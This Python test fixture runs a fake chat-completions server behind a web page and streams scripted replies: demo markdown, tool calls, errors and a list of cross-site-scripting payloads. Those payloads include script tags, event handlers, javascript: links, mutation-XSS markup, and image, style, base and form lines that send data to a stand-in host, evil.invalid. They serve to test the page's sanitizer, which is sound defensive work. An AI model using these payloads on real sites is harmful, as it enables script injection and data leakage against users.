"""A small server with the real page and a scripted model behind it, for the page's tests."""

from __future__ import annotations

import asyncio
import json
import threading
import time
from collections.abc import AsyncIterator, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import Any

import uvicorn
from fastapi import FastAPI, Request, Response
from fastapi.responses import StreamingResponse

from kllm.serve.errors import ApiError
from kllm.serve.page import router

DEMO = r"""Here is **Bayes' theorem**, with everything a page should render:

$$
P(A \mid B) = \frac{P(B \mid A)\,P(A)}{P(B)}, \qquad \int_0^\infty e^{-x^2}\,dx = \frac{\sqrt{\pi}}{2}
$$

where $P(A)$ is the *prior* and \(P(B) > 0\). In Python:

```python
from dataclasses import dataclass

@dataclass(frozen=True)
class Update:
    prior: float = 0.5  # before the evidence

    def posterior(self, likelihood: float, evidence: float) -> float:
        if evidence <= 0:
            raise ValueError(f"evidence must be above 0, not {evidence}")
        return likelihood * self.prior / evidence
```

| step | probability | note |
|:-----|------------:|:----:|
| prior | 0.5 | `P(A)` |
| posterior | 0.83 | 更新后 |

1. Start with a *prior*.
2. See the evidence, e.g. at https://example.org/data_(1).
   - A nested point

> A quotation, with ~~an error~~ none.
"""

HOSTILE = [
    '<img src=x onerror="window.pwned=1">',
    "<script>window.pwned=1</script>",
    '<svg onload="window.pwned=1"><script>window.pwned=1</script></svg>',
    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    "[click](javascript:window.pwned=1) and <javascript:window.pwned=1>",
    "[click](data:text/html,<script>opener.pwned=1</script>)",
    '<p style="background:url(http://evil.invalid/?style)">x</p><style>@import "http://evil.invalid/?css";</style>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">',
    r"$\href{javascript:window.pwned=1}{x}$ and $\text{<img src=x onerror=window.pwned=1>}$",
    '<input autofocus onfocus="window.pwned=1"><details open ontoggle="window.pwned=1">',
    "![secret](http://evil.invalid/?q=secret) ![x](data:image/svg+xml,<svg onload=pwned=1>)",
    '```"><img src=x onerror=window.pwned=1>\n</code></pre><script>window.pwned=1</script>\n```',
    '<form action="http://evil.invalid/"><button formaction="javascript:window.pwned=1">go</button></form>'
    '<base href="http://evil.invalid/"><meta http-equiv="refresh" content="0;url=http://evil.invalid/">'
    '<link rel="stylesheet" href="http://evil.invalid/x.css"><object data="http://evil.invalid/"></object>',
]


@dataclass
class Fake:
    """What the tests look at: the address, the requests that came, the streams that run."""

    url: str = ""
    key: str = ""
    requests: list[dict[str, Any]] = field(default_factory=list)
    running: int = 0
    aborted: int = 0
    pace: float = 0.004  # seconds between two tokens
    paths: list[str] = field(default_factory=list)


def fake_app(fake: Fake) -> FastAPI:
    app = FastAPI()

    @app.exception_handler(ApiError)
    async def refused(_: Request, error: ApiError) -> Response:
        return error.response()

    @app.middleware("http")
    async def guard(request: Request, call_next: Any) -> Response:
        fake.paths.append(request.url.path)
        open_path = request.method in ("GET", "HEAD") and not request.url.path.startswith("/v1/")
        if fake.key and not open_path and request.headers.get("authorization") != f"Bearer {fake.key}":
            return ApiError(401, "no valid key", code="invalid_api_key").response()
        return await call_next(request)

    @app.get("/v1/models")
    async def models() -> dict[str, Any]:
        cards = [{"id": "tiny-chat", "parent": None}, {"id": "tiny-poet", "parent": "tiny-chat"}]
        return {"object": "list", "data": cards}

    @app.post("/v1/chat/completions/render")
    async def render(request: Request) -> dict[str, Any]:
        body = await request.json()
        words = [
            piece for m in body["messages"] for piece in (f"<|{m['role']}|>", m["content"], "<|end|>", "\n")
        ]
        ids = list(range(len(words)))
        return {
            "prompt": "".join(words),
            "token_ids": ids,
            "tokens": words,
            "count": len(ids),
            "max_model_len": 512,
        }

    @app.post("/v1/chat/completions")
    async def chat(request: Request) -> Response:
        body = await request.json()
        fake.requests.append(body)
        asked = next((m["content"] for m in reversed(body["messages"]) if m["role"] == "user"), "")
        if "busy" in asked and len(fake.requests) < 2:
            raise ApiError(429, "queue full", code="queue_full", headers={"Retry-After": "3"})
        if "toolong" in asked:
            raise ApiError(400, "maximum context length is 512", code="context_length_exceeded")
        return Stream(_stream(fake, body, asked), media_type="text/event-stream; charset=utf-8")

    app.include_router(router)
    return app


class Stream(StreamingResponse):
    """Ends its generator as soon as the client has left: one that is cancelled while it sends only stops
    waiting, and the generator would linger until the next garbage collection."""

    async def __call__(self, *scope: Any) -> None:
        try:
            await super().__call__(*scope)
        finally:
            await self.body_iterator.aclose()  # type: ignore[attr-defined]


async def _stream(fake: Fake, body: dict[str, Any], asked: str) -> AsyncIterator[str]:
    fake.running += 1
    count = 0
    finished = False
    try:
        yield _event(body, {"role": "assistant", "content": ""})
        yield ": keep-alive\n\n"
        for delta in _deltas(fake, body, asked):
            if delta.get("error"):
                yield f"data: {json.dumps(delta)}\n\ndata: [DONE]\n\n"
                finished = True
                return
            count += 1
            yield _event(body, delta)
            await asyncio.sleep(0.03 if "slow" in asked else fake.pace)
        yield _event(body, {}, finish="tool_calls" if "weather" in asked and body.get("tools") else "stop")
        yield _event(
            body, None, usage={"prompt_tokens": 17, "completion_tokens": count, "total_tokens": 17 + count}
        )
        yield "data: [DONE]\n\n"
        finished = True
    finally:
        fake.running -= 1
        fake.aborted += not finished


def _deltas(fake: Fake, body: dict[str, Any], asked: str) -> Iterator[dict[str, Any]]:
    last = body["messages"][-1]
    if body.get("continue_final_message"):
        yield from _words(" and so it goes on.")
    elif "weather" in asked and body.get("tools"):
        if last["role"] == "tool":
            yield from _words(f"The tool says: {last['content']}")
            return
        call = {
            "index": 0,
            "id": "call_1",
            "type": "function",
            "function": {"name": "weather", "arguments": ""},
        }
        yield {"tool_calls": [call]}
        for piece in ('{"city"', ': "Paris",', ' "days": 3}'):
            yield {"tool_calls": [{"index": 0, "function": {"arguments": piece}}]}
    elif "calculate" in asked:
        yield from _calculated(asked)
    elif "hostile" in asked:
        yield from _words("\n\n".join(HOSTILE))
    elif "broken" in asked:
        yield from _words("This far and ")
        yield {"error": {"message": "the engine stopped", "type": "server_error", "code": "engine_dead"}}
    elif "slow" in asked:
        yield from _words(" ".join(f"word{i}" for i in range(400)))
    else:
        if "think" in asked:
            for word in [
                "First",
                "I",
                "look",
                "at",
                "the",
                "question.",
                "Then",
                "I",
                "weigh",
                "what",
                "is",
                "known.",
                "That",
                "settles",
                "it.",
            ]:
                yield {"reasoning_content": word + " "}
        text = DEMO if "demo" in asked else f"Answer {len(fake.requests)} to: {asked}"
        yield from _words(text)


def _calculated(asked: str) -> Iterator[dict[str, Any]]:
    """An answer for which the server ran tools."""
    yield from _words("Let me calculate.")
    first, second = '{"expression": "12*12"}', '{"code": "print(1/0)", "n": 2}'
    yield _told(type="call", id="c1", name="calculator", arguments=first)
    if "and stop" in asked:
        yield from ({} for _ in range(2000))
    yield _told(type="result", id="c1", name="calculator", content="144", is_error=False, seconds=0.04)
    yield from _words("\n\nThat was one.")
    yield _told(type="call", id="c2", name="python", arguments=second)
    failed = {"content": "error: ZeroDivisionError " + HOSTILE[0], "is_error": True, "seconds": 12.3}
    yield _told(type="result", id="c2", name="python", **failed)
    yield from _words("\n\nIt is **144**.")


def _told(**event: Any) -> dict[str, Any]:
    return {"tool_events": [event]}


def _words(text: str) -> Iterator[dict[str, Any]]:
    for index in range(0, len(text), 5):
        yield {"content": text[index : index + 5]}


def _event(
    body: dict[str, Any], delta: dict[str, Any] | None, finish: str | None = None, usage: Any = None
) -> str:
    choices: list[dict[str, Any]] = []
    if delta is not None:
        choice: dict[str, Any] = {"index": 0, "delta": delta, "finish_reason": finish}
        if body.get("logprobs") and delta.get("content"):
            top = [{"token": delta["content"], "logprob": -0.3}, {"token": " other", "logprob": -1.9}]
            choice["logprobs"] = {"content": [{**top[0], "top_logprobs": top}]}
        choices = [choice]
    chunk = {
        "id": "chatcmpl-1",
        "object": "chat.completion.chunk",
        "created": 1,
        "model": body.get("model") or "tiny-chat",
    }
    return f"data: {json.dumps({**chunk, 'choices': choices, 'usage': usage}, ensure_ascii=False)}\n\n"


@contextmanager
def serving(fake: Fake) -> Iterator[Fake]:
    """Runs the fake on a free port of the loopback until the block ends."""
    config = uvicorn.Config(fake_app(fake), host="127.0.0.1", port=0, log_level="error", lifespan="off")
    server = uvicorn.Server(config)
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 20
    while not server.started and time.monotonic() < deadline:
        time.sleep(0.01)
    assert server.started
    fake.url = f"http://127.0.0.1:{server.servers[0].sockets[0].getsockname()[1]}/"
    try:
        yield fake
    finally:
        server.should_exit = True
        thread.join(10)
